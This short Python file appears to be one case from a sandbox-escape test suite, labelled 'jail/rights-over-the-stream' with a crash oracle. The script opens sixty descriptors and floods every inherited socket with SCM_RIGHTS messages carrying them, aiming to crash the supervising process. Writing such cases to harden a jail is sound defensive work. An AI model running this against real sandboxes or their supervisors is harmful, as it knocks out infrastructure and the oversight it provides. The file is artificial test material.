# attack: jail/rights-over-the-stream
# oracle: crash
# imports: socket, os, array
# tools:
# source: own
# note: descriptors sent to the supervisor over each socket that is open
import array, os, socket
files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(60)]
for fd in range(3, 30):
    try:
        s = socket.socket(fileno=os.dup(fd))
        for _ in range(20):
            s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))], socket.MSG_DONTWAIT)
    except OSError:
        pass
